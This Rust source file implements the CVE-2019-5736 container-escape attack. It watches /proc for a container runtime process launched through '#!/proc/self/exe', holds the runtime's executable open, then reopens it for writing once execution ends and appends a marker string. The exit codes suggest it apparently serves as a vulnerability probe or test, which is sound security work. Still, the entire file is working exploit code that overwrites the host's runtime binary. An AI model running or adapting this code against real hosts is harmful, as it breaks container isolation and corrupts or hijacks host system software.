//! The CVE-2019-5736 attack, from inside a container: wait for a process the kernel started
//! for a `#!/proc/self/exe` script (so running the binary of whoever exec'd the script: the
//! runtime), hold its executable open, and once it is no longer running, open that file for
//! writing through the held descriptor and append to it. Prints what happened, one line per
//! step; exits 0 once it has an answer, 3 if no such process appeared.

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

fn main() {
    let deadline = Instant::now() + Duration::from_secs(30);
    let exe = loop {
        if Instant::now() > deadline {
            println!("no process ran /proc/self/exe as an interpreter");
            std::process::exit(3);
        }
        if let Some(exe) = grab_interpreted_exe() {
            break exe;
        }
    };
    println!("holding the runtime's executable");
    let reopen = format!("/proc/self/fd/{}", exe.as_raw_fd());
    loop {
        match OpenOptions::new().append(true).open(&reopen) {
            Ok(mut file) => {
                match file.write_all(b"overwritten by the container") {
                    Ok(()) => println!("overwritten"),
                    Err(e) => println!("refused at write: {e}"),
                }
                return;
            }
            // Still being executed: wait for it to end.
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(1));
            }
            Err(e) => {
                println!("refused at open: {e}");
                return;
            }
        }
    }
}

/// The executable of a process whose command line starts with the interpreter path the
/// kernel puts there for a `#!/proc/self/exe` script, opened read-only (allowed while it runs).
fn grab_interpreted_exe() -> Option<File> {
    let me = std::process::id().to_string();
    for entry in fs::read_dir("/proc").ok()?.flatten() {
        let pid = entry.file_name();
        let pid = pid.to_str()?;
        if !pid.bytes().all(|b| b.is_ascii_digit()) || pid == me {
            continue;
        }
        let Ok(cmdline) = fs::read(format!("/proc/{pid}/cmdline")) else {
            continue;
        };
        if cmdline.starts_with(b"/proc/self/exe\0") {
            if let Ok(exe) = File::open(format!("/proc/{pid}/exe")) {
                return Some(exe);
            }
        }
    }
    None
}
